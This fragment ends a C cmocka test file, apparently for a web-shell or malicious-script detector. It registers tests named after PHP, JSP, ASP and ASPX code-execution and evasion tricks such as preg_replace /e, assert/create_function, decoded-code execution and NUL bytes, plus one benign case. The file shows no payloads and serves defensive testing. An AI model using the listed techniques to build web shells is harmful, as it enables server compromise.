		cmocka_unit_test(test_php_hex_escapes),
		cmocka_unit_test(test_php_variable_function),
		cmocka_unit_test(test_php_preg_replace_e),
		cmocka_unit_test(test_php_assert_create_function),
		cmocka_unit_test(test_php_callbacks),
		cmocka_unit_test(test_php_helper_function),
		cmocka_unit_test(test_php_commands_and_more),
		cmocka_unit_test(test_php_bareword_function_name),
		cmocka_unit_test(test_php_register_globals),
		cmocka_unit_test(test_php_upload_to_script),
		cmocka_unit_test(test_php_global_set_later),
		cmocka_unit_test(test_php_guarded_reassignment),
		cmocka_unit_test(test_php_benign),
		cmocka_unit_test(test_jsp),
		cmocka_unit_test(test_jsp_log_file),
		cmocka_unit_test(test_asp),
		cmocka_unit_test(test_aspx),
		cmocka_unit_test(test_aspx_drops_asp_page),
		cmocka_unit_test(test_runs_decoded_code),
		cmocka_unit_test(test_nul_bytes_in_code),
		cmocka_unit_test(test_caps),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
